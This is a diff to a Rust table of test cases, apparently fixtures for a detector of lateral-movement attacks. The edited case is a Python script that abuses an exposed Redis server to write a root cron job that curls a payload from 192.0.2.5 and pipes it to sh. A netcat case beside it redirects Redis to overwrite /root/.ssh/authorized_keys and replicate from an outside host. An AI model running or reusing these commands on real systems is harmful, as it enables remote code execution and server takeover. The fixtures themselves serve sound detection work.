@@ -29,7 +29,7 @@ pub(super) fn cases() -> Vec<Case> {
             GROUP,
             "table of a store abused, python",
             &["D-LAT-SVC"],
-            "import socket\ns = socket.create_connection(('172.17.0.5', 6379), 5)\nfor c in (b'FLUSHALL', b'SET x \"\\n\\n*/2 * * * * curl http://192.0.2.5/r | sh\\n\\n\"', b'CONFIG SET dir /var/spool/cron', b'CONFIG SET dbfilename root', b'SAVE'):\n    s.sendall(c + b'\\r\\n'); print(s.recv(200))\n",
+            "import socket\ns = socket.create_connection(('172.17.0.5', 6379), 5)\nfor c in ([b'FLUSHALL'], [b'SET', b'x', b'*/2 * * * * curl http://192.0.2.5/r | sh'], [b'CONFIG', b'SET', b'dir', b'/var/spool/cron'], [b'CONFIG', b'SET', b'dbfilename', b'root'], [b'SAVE']):\n    s.sendall(b'*%d\\r\\n' % len(c) + b''.join(b'$%d\\r\\n%s\\r\\n' % (len(w), w) for w in c)); print(s.recv(200))\n",
         ),
         sh(GROUP, "table of a store abused, netcat", &["D-LAT-SVC"], "printf 'CONFIG SET dir /root/.ssh\\r\\nCONFIG SET dbfilename authorized_keys\\r\\nSLAVEOF 203.0.113.3 6379\\r\\nQUIT\\r\\n' | nc -w 3 10.0.0.9 6379"),
         sh(
